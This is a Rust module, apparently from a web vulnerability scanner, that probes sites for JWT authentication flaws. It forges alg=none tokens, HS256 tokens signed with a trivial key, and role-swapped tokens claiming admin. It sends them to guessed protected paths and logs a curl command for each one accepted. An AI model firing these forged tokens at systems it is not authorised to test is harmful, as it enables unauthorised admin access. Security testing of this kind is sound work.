use std::collections::BTreeMap;
use std::sync::Arc;

use async_trait::async_trait;
use base64::{engine::general_purpose, Engine as _};
use futures::future::join_all;
use hmac::{Hmac, Mac};
use serde_json::{json, Map, Value};
use sha2::Sha256;

use crate::config::ModuleKind;
use crate::probe::fetch::{BoundedFetcher, FetchRequest};
use crate::report::{RawRecord, ReportSink};
use crate::scheduler::CheckModule;
use crate::utils::unique_roots;

type HmacSha256 = Hmac<Sha256>;

/// Paths likely to sit behind bearer auth.
pub const PROTECTED_GUESSES: &[&str] = &["/api/me", "/api/user", "/api/account", "/admin", "/dashboard"];

/// Key used for the HS256 key-confusion probe.
const TRIVIAL_KEY: &str = "none";

fn b64url(bytes: &[u8]) -> String {
    general_purpose::URL_SAFE_NO_PAD.encode(bytes)
}

fn segment(value: &Value) -> String {
    b64url(value.to_string().as_bytes())
}

/// Base64url segment, padded or not.
fn decode_segment(input: &str) -> Option<Vec<u8>> {
    general_purpose::URL_SAFE_NO_PAD.decode(input.trim_end_matches('=')).ok()
}

/// Unsigned token: `header.payload.` with `alg` set to `none`.
pub fn alg_none_token(claims: &Value) -> String {
    let header = json!({"alg": "none", "typ": "JWT"});
    format!("{}.{}.", segment(&header), segment(claims))
}

pub fn hs256_token(claims: &Value, key: &str) -> Option<String> {
    let header = json!({"alg": "HS256", "typ": "JWT"});
    let signing_input = format!("{}.{}", segment(&header), segment(claims));
    let mut mac = HmacSha256::new_from_slice(key.as_bytes()).ok()?;
    mac.update(signing_input.as_bytes());
    let sig = mac.finalize().into_bytes();
    Some(format!("{}.{}", signing_input, b64url(&sig)))
}

/// Payload claims, without verifying the signature.
pub fn decode_claims(token: &str) -> Option<Map<String, Value>> {
    let mut parts = token.split('.');
    let (_, payload, _) = (parts.next()?, parts.next()?, parts.next()?);
    if parts.next().is_some() {
        return None;
    }
    match serde_json::from_slice(&decode_segment(payload)?).ok()? {
        Value::Object(map) => Some(map),
        _ => None,
    }
}

/// Same token with the `role` claim replaced and the original signature
/// kept. `None` when there is no role claim or it already has that value.
pub fn swap_role(token: &str, new_role: &str) -> Option<String> {
    let parts: Vec<&str> = token.split('.').collect();
    if parts.len() != 3 {
        return None;
    }
    let mut claims = decode_claims(token)?;
    match claims.get("role") {
        None => return None,
        Some(Value::String(r)) if r == new_role => return None,
        _ => {}
    }
    claims.insert("role".into(), Value::String(new_role.to_string()));
    Some(format!("{}.{}.{}", parts[0], segment(&Value::Object(claims)), parts[2]))
}

/// Subject identifier: `sub`, then `id`, then `user_id`.
pub fn subject_id(token: &str) -> Option<String> {
    let claims = decode_claims(token)?;
    ["sub", "id", "user_id"].iter().find_map(|k| match claims.get(*k)? {
        Value::String(s) if !s.is_empty() => Some(s.clone()),
        Value::Number(n) => Some(n.to_string()),
        _ => None,
    })
}

pub fn bearer_curl(token: &str, url: &str) -> String {
    format!("curl -i -H 'Authorization: Bearer {}' '{}'", token, url)
}

fn rejected(status: u16) -> bool {
    matches!(status, 401 | 403)
}

/// Forged-token acceptance against the first protected path of each site.
pub struct JwtCheck {
    fetcher: Arc<BoundedFetcher>,
    reporter: Arc<dyn ReportSink>,
    role_tokens: BTreeMap<String, String>,
}

impl JwtCheck {
    pub fn new(
        fetcher: Arc<BoundedFetcher>,
        reporter: Arc<dyn ReportSink>,
        role_tokens: BTreeMap<String, String>,
    ) -> Self {
        Self { fetcher, reporter, role_tokens }
    }

    async fn protected_target(&self, root: &str) -> Option<String> {
        for guess in PROTECTED_GUESSES {
            let url = format!("{}{}", root, guess);
            match self.fetcher.fetch(FetchRequest::get(url.as_str()).no_redirects()).await {
                Ok(r) if rejected(r.status) => return Some(url),
                Ok(_) => {}
                Err(e) => tracing::debug!(url = %url, error = %e, "protected path probe failed"),
            }
        }
        None
    }

    /// Status of `target` with the token, `None` on transport failure.
    async fn try_token(&self, target: &str, token: &str) -> Option<u16> {
        let req = FetchRequest::get(target)
            .header("Authorization", format!("Bearer {}", token))
            .no_redirects();
        self.fetcher.fetch(req).await.ok().map(|r| r.status)
    }

    async fn check_root(&self, root: &str) -> anyhow::Result<()> {
        let Some(target) = self.protected_target(root).await else {
            tracing::debug!(root, "no protected path found");
            return Ok(());
        };

        let none = alg_none_token(&json!({"sub": "test", "role": "admin", "iat": 0}));
        if let Some(status) = self.try_token(&target, &none).await {
            if !rejected(status) {
                let rec = RawRecord::new(
                    "JWT alg=none acceptance",
                    &target,
                    format!("Accepted unsigned JWT (status {}).", status),
                )
                .with_curl(bearer_curl(&none, &target));
                self.reporter.record(rec).await?;
            }
        }

        if let Some(hs) = hs256_token(&json!({"sub": "test", "role": "admin"}), TRIVIAL_KEY) {
            if let Some(status) = self.try_token(&target, &hs).await {
                if !rejected(status) {
                    let rec = RawRecord::new(
                        "JWT key confusion (heuristic)",
                        &target,
                        format!("Accepted HS256 token with trivial key (status {}).", status),
                    )
                    .with_curl(bearer_curl(&hs, &target));
                    self.reporter.record(rec).await?;
                }
            }
        }

        for (role, token) in &self.role_tokens {
            let Some(forged) = swap_role(token, "admin") else {
                continue;
            };
            if let Some(status) = self.try_token(&target, &forged).await {
                if !rejected(status) {
                    let rec = RawRecord::new(
                        "JWT role swapping",
                        &target,
                        format!("Modified token for role '{}' accepted (status {})", role, status),
                    )
                    .with_curl(bearer_curl(&forged, &target));
                    self.reporter.record(rec).await?;
                }
            }
        }
        Ok(())
    }
}

#[async_trait]
impl CheckModule for JwtCheck {
    fn kind(&self) -> ModuleKind {
        ModuleKind::Jwt
    }

    async fn run(&self, endpoints: &[String]) -> anyhow::Result<()> {
        let roots = unique_roots(endpoints);
        for res in join_all(roots.iter().map(|r| self.check_root(r))).await {
            res?;
        }
        Ok(())
    }
}
